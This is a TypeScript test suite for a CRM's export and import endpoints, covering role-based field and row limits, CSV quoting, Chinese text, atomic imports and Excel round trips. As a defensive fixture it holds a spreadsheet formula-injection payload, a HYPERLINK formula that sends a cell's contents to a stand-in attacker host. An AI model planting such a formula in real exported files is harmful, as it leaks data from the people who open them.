import ExcelJS from 'exceljs';
import { XLSX_TYPE, parseCsv } from '@crm/records';
import { ADMIN_PASSWORD, DIALECTS, type TestServer, q, startServer } from './support/harness';

/**
 * Export and import over HTTP, enforced by roles: who may export which rows and columns, CSV
 * safety (formula injection, BOM, quoting, Chinese), all-or-nothing imports with row pointers.
 */
const ACCOUNT = `
kind: entity
name: account
label: { zh-CN: 客户, en: Account }
displayField: name
fields:
  name: { type: text, label: { zh-CN: 名称, en: Name }, required: true }
`;
const DEAL = `
kind: entity
name: deal
label: { zh-CN: 商机, en: Deal }
displayField: title
fields:
  code: { type: autoNumber, label: { zh-CN: 编号, en: Code }, codeRule: "SJ-{YYYY}-{seq:4}" }
  title: { type: text, label: { zh-CN: 标题, en: Title }, required: true }
  stage:
    type: select
    label: { zh-CN: 阶段, en: Stage }
    options:
      - { value: open, label: { zh-CN: 进行中, en: Open } }
      - { value: won, label: { zh-CN: 赢单, en: Won } }
      - { value: lost, label: { zh-CN: 输单, en: Lost } }
  margin: { type: integer, label: { zh-CN: 毛利, en: Margin } }
  amount: { type: currency, label: { zh-CN: 金额, en: Amount }, currency: CNY, min: 0 }
  channels:
    type: multiSelect
    label: { zh-CN: 渠道, en: Channels }
    options:
      - { value: web, label: { zh-CN: 网站, en: Web } }
      - { value: fair, label: { zh-CN: 展会, en: Fair } }
  closeDate: { type: date, label: { zh-CN: 结束, en: Close } }
  note: { type: longText, label: { zh-CN: 备注, en: Note } }
  won: { type: boolean, label: { zh-CN: 赢单, en: Won } }
  account: { type: relation, relation: manyToOne, target: account, label: { zh-CN: 客户, en: Account } }
`;
const label = (n: string) => `{ zh-CN: ${n}, en: ${n} }`;
const ROLES = {
  // reads and exports every deal but lost ones, never the margin
  'roles/analyst.yaml': `
kind: role
name: analyst
label: ${label('Analyst')}
rules:
  - { action: [read, export], subject: deal }
  - { action: read, subject: account }
  - { action: read, subject: deal, conditions: { stage: lost }, inverted: true }
  - { action: read, subject: deal, fields: [margin], inverted: true }
`,
  'roles/reader.yaml': `
kind: role
name: reader
label: ${label('Reader')}
rules:
  - { action: read, subject: [deal, account] }
`,
  // reads everything, exports only own deals
  'roles/narrow.yaml': `
kind: role
name: narrow
label: ${label('Narrow')}
rules:
  - { action: read, subject: deal }
  - { action: export, subject: deal, conditions: { owner: $me } }
`,
  'roles/importer.yaml': `
kind: role
name: importer
label: ${label('Importer')}
rules:
  - { action: [read, create, import], subject: deal, conditions: { owner: $me } }
  - { action: read, subject: account }
  - { action: create, subject: deal, fields: [margin], inverted: true }
`,
  // creates deals for anyone one by one, but imports only their own
  'roles/loader.yaml': `
kind: role
name: loader
label: ${label('Loader')}
rules:
  - { action: [read, create], subject: deal }
  - { action: import, subject: deal, conditions: { owner: $me } }
`,
};
const PASSWORD = 'export-password-1';
const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

describe.each(DIALECTS)('export and import on %s', (dialect) => {
  let s: TestServer;
  const token = new Map<string, string>();
  const as = (login: string) => ({ authorization: `Bearer ${token.get(login)}` });
  const login = async (name: string, password = PASSWORD) =>
    s.api('POST', '/api/auth/login', { login: name, password }, { 'x-no-auth': '1' });
  let accountId: number;

  const count = async () =>
    (await s.api('GET', '/api/records/deal?count=true&limit=1', undefined, as('admin'))).body
      .count as number;
  const exportFile = async (user: string, query = '') => {
    const res = await fetch(`${s.url}/api/records/deal/export?${query}`, { headers: as(user) });
    const bytes = Buffer.from(await res.arrayBuffer());
    return { status: res.status, headers: res.headers, bytes, text: bytes.toString('utf8') };
  };
  const json = (f: { text: string }) => JSON.parse(f.text);
  /** CSV text → header and rows as objects keyed by the header. */
  const table = (text: string) => {
    const [header, ...rows] = parseCsv(text).map((r) => r.cells);
    return { header, rows: rows.map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]]))) };
  };
  const importCsv = (user: string, csv: string, query = '') =>
    s.api('POST', `/api/records/deal/import${query}`, csv, {
      ...as(user),
      'content-type': 'text/csv',
    });

  beforeAll(async () => {
    s = await startServer(
      dialect,
      { 'account.yaml': ACCOUNT, 'deal.yaml': DEAL, ...ROLES },
      { IMPORT_MAX_ROWS: '1500' },
    );
    token.set('admin', (await login('admin', ADMIN_PASSWORD)).body.accessToken);
    for (const [name, role] of [
      ['analyst', 'analyst'],
      ['reader', 'reader'],
      ['narrow', 'narrow'],
      ['importer', 'importer'],
      ['loader', 'loader'],
    ]) {
      const r = await s.api(
        'POST',
        '/api/admin/users',
        { login: name, password: PASSWORD, roles: [role], locale: 'en' },
        as('admin'),
      );
      expect(r.status).toBe(201);
      token.set(name, (await login(name)).body.accessToken);
    }
    accountId = (await s.api('POST', '/api/records/account', { name: '华东' }, as('admin'))).body
      .id;
    const seed = await s.api(
      'POST',
      '/api/records/deal/bulk',
      {
        records: [
          {
            title: '上海客户 A',
            stage: 'open',
            margin: 4711,
            amount: { amount: 1234.5, currency: 'CNY' },
            channels: ['web', 'fair'],
            closeDate: '2026-04-30',
            note: 'line1\nline2, "quoted"',
            won: false,
            account: accountId,
            owner: 'narrow',
          },
          { title: INJECTION, stage: 'open', margin: 4711, note: '-2+3', owner: 'admin' },
          { title: 'lost deal', stage: 'lost', margin: 4711 },
          { title: '+1 won', stage: 'won', margin: 4711, won: true },
        ],
      },
      as('admin'),
    );
    expect(seed.status).toBe(200);
  });
  afterAll(async () => {
    await s?.close();
  });

  describe('export', () => {
    it('streams a CSV with BOM, header and every readable row, without hidden fields or rows', async () => {
      const f = await exportFile('analyst', 'sort=title');
      expect(f.status).toBe(200);
      expect(f.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(f.headers.get('content-disposition')).toContain('filename="deal-20260315.csv"');
      expect([...f.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const { header, rows } = table(f.text);
      expect(header).toEqual([
        'id',
        'code',
        'title',
        'stage',
        'amount',
        'amount.currency',
        'channels',
        'closeDate',
        'note',
        'won',
        'account',
        'owner',
        'createdAt',
        'createdBy',
        'updatedAt',
        'updatedBy',
      ]);
      expect(f.text).not.toContain('margin');
      expect(f.text).not.toContain('4711');
      expect(f.text).not.toContain('lost deal');
      // sorted by title; the guarded cells keep a leading apostrophe
      expect(rows.map((r) => r.title)).toEqual(["'+1 won", `'${INJECTION}`, '上海客户 A']);
      const sh = rows[2];
      expect(sh).toMatchObject({
        stage: 'open',
        amount: '1234.5',
        'amount.currency': 'CNY',
        channels: 'web;fair',
        closeDate: '2026-04-30',
        note: 'line1\nline2, "quoted"',
        won: 'false',
        account: String(accountId),
        owner: 'narrow',
        createdBy: 'admin',
        createdAt: '2026-03-15T08:00:00.000Z',
      });
      expect(sh.code).toMatch(/^SJ-2026-\d{4}$/);
      expect(rows[1].note).toBe("'-2+3");
    });

    it('quotes per RFC 4180 and neutralises formulas in the raw bytes', async () => {
      const f = await exportFile('analyst', `fields=title,note&sort=title`);
      const lines = f.text.slice(1).split('\r\n');
      expect(lines[0]).toBe('id,title,note');
      expect(lines[2]).toMatch(
        /^\d+,"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",'-2\+3$/,
      );
      expect(f.text).toContain('"line1\nline2, ""quoted"""\r\n');
      // no cell of the file starts with a formula character
      for (const row of parseCsv(f.text))
        for (const cell of row.cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    });

    it('exports JSON with the same rows and fields', async () => {
      const f = await exportFile('analyst', 'format=json&sort=title');
      expect(f.status).toBe(200);
      expect(f.headers.get('content-type')).toBe('application/json; charset=utf-8');
      expect(f.headers.get('content-disposition')).toContain('deal-20260315.json');
      const data = json(f);
      expect(data.map((d: { title: string }) => d.title)).toEqual([
        '+1 won',
        INJECTION,
        '上海客户 A',
      ]);
      for (const d of data) expect(d).not.toHaveProperty('margin');
      expect(data[2]).toMatchObject({
        amount: { amount: 1234.5, currency: 'CNY' },
        channels: ['web', 'fair'],
        won: false,
        account: accountId,
        owner: 'narrow',
      });
    });

    it('applies filter, sort and fields like the list endpoint', async () => {
      const f = await exportFile(
        'analyst',
        `format=json&fields=title,owner&sort=-title&filter=${q({ stage: 'open' })}`,
      );
      expect(json(f)).toEqual([
        { id: expect.any(Number), title: '上海客户 A', owner: 'narrow' },
        { id: expect.any(Number), title: INJECTION, owner: 'admin' },
      ]);
    });

    it.each([
      ['filter on a hidden field', `filter=${q({ margin: { gt: 1 } })}`, 'FILTER_INVALID'],
      ['sort on a hidden field', 'sort=-margin', 'QUERY_INVALID'],
      ['a hidden field in fields', 'fields=title,margin', 'FIELD_UNKNOWN'],
      ['an unknown format', 'format=xls', 'QUERY_INVALID'],
    ])('%s is refused with 400 and no data', async (_n, query, code) => {
      const f = await exportFile('analyst', query);
      expect(f.status).toBe(400);
      expect(json(f).code).toBe(code);
      expect(f.text).not.toContain('4711');
      expect(f.text).not.toContain('上海');
    });

    it('exports only rows that both read and export conditions allow', async () => {
      const f = await exportFile('narrow', 'format=json');
      expect(json(f).map((d: { title: string }) => d.title)).toEqual(['上海客户 A']);
      const list = await s.api('GET', '/api/records/deal?count=true', undefined, as('narrow'));
      expect(list.body.count).toBeGreaterThan(1); // the user reads more than they may export
    });

    it('without export permission answers 403 in the standard shape, audited', async () => {
      // refused before the query is looked at: an unknown field would otherwise be a 400
      const f = await exportFile('reader', 'fields=title,nope');
      expect(f.status).toBe(403);
      const body = json(f);
      expect(body).toMatchObject({ statusCode: 403, code: 'FORBIDDEN' });
      expect(body.message).toContain('export');
      expect(body.errors[0]).toMatchObject({ path: 'deal', action: 'export' });
      expect(f.text).not.toContain('上海');
      const audit = await s.api('GET', '/api/admin/audit?outcome=denied', undefined, as('admin'));
      expect(audit.body.data).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ actor: 'reader', action: 'export', subject: 'deal' }),
        ]),
      );
    });
  });

  describe('import', () => {
    it('imports a CSV body: values converted, owner defaults to the importer', async () => {
      const before = await count();
      const csv =
        '\uFEFFtitle,stage,amount,amount.currency,channels,closeDate,note,won\r\n' +
        '北京客户,won,99.5,USD,fair;web,2026/5/1,"多行\n备注",是\r\n' +
        "'=1+1,open,,,,,,false\r\n";
      const r = await importCsv('importer', csv);
      expect(r.status).toBe(200);
      expect(r.body.created).toBe(2);
      expect(r.body.ids).toHaveLength(2);
      expect(await count()).toBe(before + 2);
      const [a, b] = await Promise.all(
        r.body.ids.map(
          async (id: number) =>
            (await s.api('GET', `/api/records/deal/${id}`, undefined, as('admin'))).body,
        ),
      );
      expect(a).toMatchObject({
        title: '北京客户',
        stage: 'won',
        amount: { amount: 99.5, currency: 'USD' },
        channels: ['fair', 'web'],
        closeDate: '2026-05-01',
        note: '多行\n备注',
        won: true,
        owner: 'importer',
        createdBy: 'importer',
      });
      expect(a.code).toMatch(/^SJ-2026-\d{4}$/);
      expect(b).toMatchObject({ title: '=1+1', stage: 'open', amount: null, won: false });
    });

    it('imports a multipart upload and a JSON array', async () => {
      const form = new FormData();
      form.append(
        'file',
        new Blob(['title,stage\r\nfrom upload,open\r\n'], { type: 'text/csv' }),
        'd.csv',
      );
      const up = await fetch(`${s.url}/api/records/deal/import`, {
        method: 'POST',
        body: form,
        headers: as('importer'),
      });
      expect(up.status).toBe(200);
      expect(((await up.json()) as { created: number }).created).toBe(1);
      const r = await s.api(
        'POST',
        '/api/records/deal/import',
        [
          { title: 'json one', channels: ['web'], amount: { amount: 5, currency: 'CNY' } },
          { title: 'json two', account: accountId },
        ],
        as('importer'),
      );
      expect(r.status).toBe(200);
      expect(r.body.created).toBe(2);
      const got = await s.api('GET', `/api/records/deal/${r.body.ids[0]}`, undefined, as('admin'));
      expect(got.body).toMatchObject({ title: 'json one', channels: ['web'], owner: 'importer' });
      const two = await s.api('GET', `/api/records/deal/${r.body.ids[1]}`, undefined, as('admin'));
      expect(two.body.account).toBe(accountId);
    });

    it('a dry run validates everything and writes nothing', async () => {
      const before = await count();
      const r = await importCsv('importer', 'title,stage\nx,open\ny,won\n', '?dryRun=true');
      expect(r.status).toBe(200);
      expect(r.body).toEqual({ created: 0, ids: [], dryRun: true, valid: 2 });
      expect(await count()).toBe(before);
      const bad = await importCsv('importer', 'title,stage\nx,nope\n', '?dryRun=true');
      expect(bad.status).toBe(400);
      expect(bad.body.errors[0].path).toBe('/rows/1/stage');
    });

    it('one bad row → 400 pointing at every bad row and field, nothing written', async () => {
      const before = await count();
      const r = await importCsv(
        'importer',
        'title,stage,closeDate,amount\nok 1,open,,\nok 2,nope,,\n,open,,-5\nok 4,open,someday,\n',
      );
      expect(r.status).toBe(400);
      expect(r.body.code).toBe('RECORD_INVALID');
      expect(r.body.message).toContain('nothing was written');
      const paths = r.body.errors.map((e: { path: string }) => e.path);
      expect(paths).toEqual(
        expect.arrayContaining([
          '/rows/2/stage',
          '/rows/3/title',
          '/rows/3/amount/amount',
          '/rows/4/closeDate',
        ]),
      );
      expect(paths.filter((p: string) => p.startsWith('/rows/1'))).toEqual([]);
      expect(await count()).toBe(before);
    });

    it('a row failing in the database rolls back the rows inserted before it', async () => {
      const before = await count();
      const r = await importCsv(
        'importer',
        `title,account\nfine,${accountId}\nfine too,\nbroken,999999\n`,
      );
      expect(r.status).toBe(400);
      expect(r.body.errors).toEqual([expect.objectContaining({ path: '/rows/3/account' })]);
      expect(await count()).toBe(before);
    });

    it.each([
      ['a JSON item that is not an object', [{ title: 'a' }, 'b'], '/rows/2'],
      ['an unknown key in JSON', [{ title: 'a', nope: 1 }], '/rows/1/nope'],
    ])('%s is pointed at', async (_n, body, path) => {
      const r = await s.api('POST', '/api/records/deal/import', body, as('importer'));
      expect(r.status).toBe(400);
      expect(r.body.errors).toEqual(expect.arrayContaining([expect.objectContaining({ path })]));
    });

    it.each([
      ['an unknown column', 'title,nope\nx,y\n', 400, 'FIELD_UNKNOWN', '/header/2'],
      ['a repeated column', 'title,title\nx,y\n', 400, 'FIELD_UNKNOWN', '/header/2'],
      ['a malformed CSV', 'title\n"open\n', 400, 'BAD_REQUEST', '/lines/2'],
      ['a row wider than the header', 'title\nx,y\n', 400, 'RECORD_INVALID', '/rows/1'],
      ['no data rows', 'title\n', 400, 'BAD_REQUEST', '/rows'],
    ])('%s → %i %s at %s', async (_n, csv, status, code, path) => {
      const before = await count();
      const r = await importCsv('importer', csv);
      expect(r.status).toBe(status);
      expect(r.body.code).toBe(code);
      expect(r.body.errors[0].path).toBe(path);
      expect(await count()).toBe(before);
    });

    it('a column the user may not write → 403 naming it, even when its cells are empty', async () => {
      const before = await count();
      const r = await importCsv('importer', 'title,margin\nx,\n');
      expect(r.status).toBe(403);
      expect(r.body.code).toBe('FORBIDDEN');
      expect(r.body.errors).toEqual([
        expect.objectContaining({ path: '/margin', field: 'margin', action: 'create' }),
      ]);
      expect(await count()).toBe(before);
    });

    it('a row the user may not create (someone else as owner) → 403, nothing written', async () => {
      const before = await count();
      const r = await importCsv('importer', 'title,owner\nmine,importer\ntheirs,analyst\n');
      expect(r.status).toBe(403);
      expect(r.body.message).toContain('row 2');
      expect(await count()).toBe(before);
    });

    it('new rows must also satisfy the import conditions, not only the create ones', async () => {
      const before = await count();
      const r = await importCsv('loader', 'title,owner\nmine,loader\ntheirs,analyst\n');
      expect(r.status).toBe(403);
      expect(r.body.errors[0]).toMatchObject({ action: 'import' });
      expect(r.body.message).toContain('row 2');
      expect(await count()).toBe(before);
      const ok = await importCsv('loader', 'title,owner\nmine,loader\n');
      expect(ok.body.created).toBe(1);
    });

    it('without import permission answers 403 before reading the file, audited', async () => {
      const before = await count();
      for (const user of ['analyst', 'reader']) {
        const r = await importCsv(user, 'title\nx\n');
        expect(r.status).toBe(403);
        expect(r.body).toMatchObject({ code: 'FORBIDDEN', errors: [{ action: 'import' }] });
      }
      expect(await count()).toBe(before);
      const audit = await s.api('GET', '/api/admin/audit?outcome=denied', undefined, as('admin'));
      expect(audit.body.data).toEqual(
        expect.arrayContaining([
          expect.objectContaining({ actor: 'analyst', action: 'import', subject: 'deal' }),
        ]),
      );
    });

    it('refuses more rows than IMPORT_MAX_ROWS with 413', async () => {
      const csv = `title\n${Array.from({ length: 1501 }, (_, i) => `row ${i}`).join('\n')}\n`;
      const before = await count();
      const r = await importCsv('importer', csv);
      expect(r.status).toBe(413);
      expect(r.body.code).toBe('IMPORT_TOO_LARGE');
      expect(await count()).toBe(before);
    });
  });

  it('round trip: an exported CSV imports back unchanged, Chinese and guarded cells included', async () => {
    const out = await exportFile(
      'admin',
      `filter=${q({ stage: 'open', createdBy: 'admin' })}&sort=title`,
    );
    expect(out.status).toBe(200);
    const exported = table(out.text).rows;
    expect(exported.map((r) => r.title)).toEqual([`'${INJECTION}`, '上海客户 A']);
    const r = await importCsv('admin', out.text);
    expect(r.status).toBe(200);
    expect(r.body.created).toBe(2);
    expect(r.body.ignoredColumns).toEqual([
      'id',
      'code',
      'createdAt',
      'createdBy',
      'updatedAt',
      'updatedBy',
    ]);
    const back = await exportFile('admin', `filter=${q({ id: { in: r.body.ids } })}&sort=title`);
    const again = table(back.text).rows;
    const same = (row: Record<string, string>) => {
      const { id: _id, code: _code, ...rest } = row;
      void _id;
      void _code;
      return rest;
    };
    expect(again.map(same)).toEqual(exported.map(same));
    const stored = await s.api('GET', `/api/records/deal/${r.body.ids[0]}`, undefined, as('admin'));
    expect(stored.body.title).toBe(INJECTION); // the apostrophe guard is not stored
  });

  describe('Excel (.xlsx)', () => {
    /** A workbook's first sheet as header + rows of raw cell values. */
    const sheetOf = async (bytes: Buffer) => {
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(bytes as unknown as ArrayBuffer);
      const rows: ExcelJS.CellValue[][] = [];
      book.worksheets[0].eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
      const [header, ...data] = rows;
      return {
        header: header as string[],
        rows: data.map((r) => Object.fromEntries(header.map((h, i) => [h as string, r[i]]))),
      };
    };
    const importXlsx = (user: string, bytes: Buffer, query = '') =>
      fetch(`${s.url}/api/records/deal/import${query}`, {
        method: 'POST',
        body: new Uint8Array(bytes),
        headers: { ...as(user), 'content-type': XLSX_TYPE },
      }).then(async (r) => ({ status: r.status, body: await r.json() }));

    it('exports a workbook with typed cells, and it imports back unchanged', async () => {
      // the two open deals the test began with (other tests import copies of them)
      const seeded = await s.api(
        'GET',
        `/api/records/deal?filter=${q({ stage: 'open', createdBy: 'admin' })}&sort=id&limit=2`,
        undefined,
        as('admin'),
      );
      const ids = seeded.body.data.map((d: { id: number }) => d.id);
      const out = await exportFile(
        'admin',
        `format=xlsx&filter=${q({ id: { in: ids } })}&sort=title`,
      );
      expect(out.status).toBe(200);
      expect(out.headers.get('content-type')).toBe(XLSX_TYPE);
      expect(out.headers.get('content-disposition')).toMatch(/deal-\d{8}\.xlsx/);
      const sheet = await sheetOf(out.bytes);
      expect(sheet.header.slice(0, 3)).toEqual(['id', 'code', 'title']);
      // text is stored as it is (a worksheet never evaluates a text cell), numbers as numbers
      expect(sheet.rows.map((r) => r.title)).toEqual([INJECTION, '上海客户 A']);
      const a = sheet.rows[1];
      expect(a).toMatchObject({
        margin: 4711,
        amount: 1234.5,
        'amount.currency': 'CNY',
        channels: 'web;fair',
        closeDate: '2026-04-30',
        won: 'false',
        account: accountId,
      });
      const r = await importXlsx('admin', out.bytes);
      expect(r).toMatchObject({ status: 200, body: { created: 2 } });
      const back = await exportFile(
        'admin',
        `format=xlsx&filter=${q({ id: { in: r.body.ids } })}&sort=title`,
      );
      const again = (await sheetOf(back.bytes)).rows;
      const same = (row: Record<string, unknown>) =>
        Object.fromEntries(
          ['title', 'stage', 'margin', 'amount', 'channels', 'closeDate', 'note', 'won'].map(
            (k) => [k, row[k]],
          ),
        );
      expect(again.map(same)).toEqual(sheet.rows.map(same));
    });

    it('imports what a spreadsheet user typed: date cells, numbers, booleans, rich text', async () => {
      const book = new ExcelJS.Workbook();
      const sheet = book.addWorksheet('我的商机');
      sheet.addRow(['title', 'stage', 'closeDate', 'amount', 'won', 'note']);
      sheet.addRow([
        { richText: [{ text: '富文本' }, { text: '标题', font: { bold: true } }] },
        'won',
        new Date(Date.UTC(2026, 4, 6)),
        99.5,
        true,
        { formula: '1+1', result: 2 },
      ]);
      sheet.addRow([]); // an empty row in the middle is a row with no title
      sheet.addRow(['third', 'open']);
      const bytes = Buffer.from(await book.xlsx.writeBuffer());
      const bad = await importXlsx('importer', bytes);
      expect(bad.status).toBe(400);
      expect(bad.body.errors.map((e: { path: string }) => e.path)).toEqual(['/rows/2/title']);
      sheet.spliceRows(3, 1);
      const ok = await importXlsx('importer', Buffer.from(await book.xlsx.writeBuffer()));
      expect(ok).toMatchObject({ status: 200, body: { created: 2 } });
      const got = await s.api('GET', `/api/records/deal/${ok.body.ids[0]}`, undefined, as('admin'));
      expect(got.body).toMatchObject({
        title: '富文本标题',
        stage: 'won',
        closeDate: '2026-05-06',
        amount: { amount: 99.5, currency: 'CNY' },
        won: true,
        note: '2',
        owner: 'importer',
      });
    });

    it('headers=labels names columns in the request language, and such a file imports back', async () => {
      const seeded = await s.api(
        'GET',
        `/api/records/deal?filter=${q({ title: '上海客户 A', createdBy: 'admin' })}&limit=1`,
        undefined,
        as('admin'),
      );
      const filter = q({ id: { eq: seeded.body.data[0].id } });
      const labelled = async (user: string, lang: string, format: string, fields: string) => {
        const res = await fetch(
          `${s.url}/api/records/deal/export?format=${format}&headers=labels&fields=${fields}&filter=${filter}`,
          { headers: { ...as(user), 'accept-language': lang } },
        );
        expect(res.status).toBe(200);
        return Buffer.from(await res.arrayBuffer());
      };
      const fields = 'code,title,stage,amount,account,owner';
      const zh = await labelled('admin', 'zh-CN,zh;q=0.9', 'xlsx', fields);
      const zhSheet = await sheetOf(zh);
      expect(zhSheet.header).toEqual([
        'ID',
        '编号',
        '标题',
        '阶段',
        '金额',
        '金额（币种）',
        '客户',
        '负责人',
      ]);
      expect(zhSheet.rows).toEqual([
        // options as people read them; they import back by label (below)
        expect.objectContaining({
          标题: '上海客户 A',
          阶段: '进行中',
          金额: 1234.5,
          客户: accountId,
        }),
      ]);
      const en = await labelled('admin', 'en-US', 'csv', 'title,stage,amount');
      const enTable = table(en.toString('utf8').slice(1));
      expect(enTable.header).toEqual(['ID', 'Title', 'Stage', 'Amount', 'Amount (currency)']);
      expect(enTable.rows[0]).toMatchObject({ Stage: 'Open' });
      // the labelled workbook imports back (owner: the importer's own, as their rule demands)
      const book = new ExcelJS.Workbook();
      await book.xlsx.load(zh as unknown as ArrayBuffer);
      book.worksheets[0].getCell('H2').value = 'importer';
      const r = await importXlsx('importer', Buffer.from(await book.xlsx.writeBuffer()));
      expect(r).toMatchObject({
        status: 200,
        body: { created: 1, ignoredColumns: ['ID', '编号'] },
      });
      const got = await s.api('GET', `/api/records/deal/${r.body.ids[0]}`, undefined, as('admin'));
      expect(got.body).toMatchObject({
        title: '上海客户 A',
        stage: 'open',
        amount: { amount: 1234.5, currency: 'CNY' },
        account: accountId,
        owner: 'importer',
      });
    });

    it('an unknown header style is a 400 naming the parameter', async () => {
      const r = await exportFile('admin', 'format=xlsx&headers=titles');
      expect(r.status).toBe(400);
      expect(json(r)).toMatchObject({
        code: 'QUERY_INVALID',
        errors: [{ path: 'headers', message: 'unknown header style "titles"' }],
      });
    });

    it('a multipart .xlsx upload works; a file that is not a workbook is a 400 naming the file', async () => {
      const book = new ExcelJS.Workbook();
      book.addWorksheet('s').addRows([['title'], ['uploaded 表格']]);
      const form = new FormData();
      form.append('file', new Blob([await book.xlsx.writeBuffer()]), '商机.xlsx');
      const up = await fetch(`${s.url}/api/records/deal/import`, {
        method: 'POST',
        body: form,
        headers: as('importer'),
      });
      expect(up.status).toBe(200);
      const broken = await importXlsx('importer', Buffer.from('title\nnot a zip\n'));
      expect(broken.status).toBe(400);
      expect(broken.body).toMatchObject({
        code: 'BAD_REQUEST',
        errors: [{ path: '/file', message: expect.stringContaining('not an Excel workbook') }],
      });
    });
  });

  it('exports every page: 1,200 imported rows come back in one file', async () => {
    const csv = `title,stage\n${Array.from({ length: 1200 }, (_, i) => `bulk ${String(i).padStart(4, '0')},won`).join('\n')}\n`;
    const r = await importCsv('admin', csv);
    expect(r.status).toBe(200);
    expect(r.body.created).toBe(1200);
    const f = await exportFile(
      'admin',
      `fields=title&filter=${q({ title: { startsWith: 'bulk ' } })}`,
    );
    const titles = table(f.text).rows.map((x) => x.title);
    expect(titles).toHaveLength(1200);
    expect(new Set(titles).size).toBe(1200);
    expect(titles[1199]).toBe('bulk 1199');
  });
});
